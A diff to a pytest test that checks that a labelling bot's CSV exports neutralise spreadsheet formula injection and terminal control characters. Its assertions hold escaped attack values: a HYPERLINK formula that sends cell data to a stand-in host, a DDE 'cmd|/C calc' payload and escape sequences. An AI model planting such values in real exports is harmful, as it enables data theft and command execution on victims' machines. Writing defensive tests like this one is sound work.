@@ -16,6 +16,7 @@ from typing import Any
 import pytest
 
 from chatlabel import exporter
+from chatlabel.service.types import UserRef
 from tests.telegram_harness import is_item, new_message, next_item, project, running_bot
 
 pytestmark = pytest.mark.timeout(30)
@@ -87,9 +88,18 @@ async def test_csv_exports_defuse_formulas_and_control_characters_jsonl_stays_ex
         assert sorted(r["item_id"] for r in jsonl) == sorted(ids)
         people_jsonl = [json.loads(x) for x in (await export("annotators", "jsonl")).splitlines()]
         assert sorted(r["name"] for r in people_jsonl) == sorted(NAMES)
+        # Comments on items are outside text too.
+        given = await b.query(
+            """SELECT a.key, x.assignment_id FROM answers x
+               JOIN annotators a ON a.id = x.annotator_id ORDER BY x.id"""
+        )
+        for (key, aid), formula in zip(given, FORMULAS, strict=False):
+            platform, _, uid = key.partition(":")
+            said = await b.service.comment(UserRef(platform, uid), formula, assignment_id=aid)
+            assert said.status == "saved"
         # CSV is inert, and says the same thing once the ' and the \xNN are read back.
         tried = 0
-        for what in ("results", "answers", "annotators"):
+        for what in ("results", "answers", "annotators", "reports"):
             rows = assert_spreadsheet_safe(await export(what, "csv"))
             tried += sum(len(r) for r in rows)
         answers_csv = assert_spreadsheet_safe(await export("answers", "csv"))[1:]
@@ -103,6 +113,8 @@ async def test_csv_exports_defuse_formulas_and_control_characters_jsonl_stays_ex
         assert "esc \\x1b[2J in the middle" in values
         assert "csi \\x9b and del \\x7f and bell \\x07" in values
         assert "plain answer, with a comma" in values and "multi\nline = fine" in values
+        comments = {r[9] for r in answers_csv}
+        assert '\'=HYPERLINK("http://x/?"&A1,"x")' in comments and "'@SUM(A1:A9)" in comments
         names = {r[1] for r in assert_spreadsheet_safe(await export("annotators", "csv"))[1:]}
         assert names == {"'=cmd|' /C calc'!A0", "'@Mallory", "\\x1b]0;owned\\x07Eve"}
         assert tried > 100
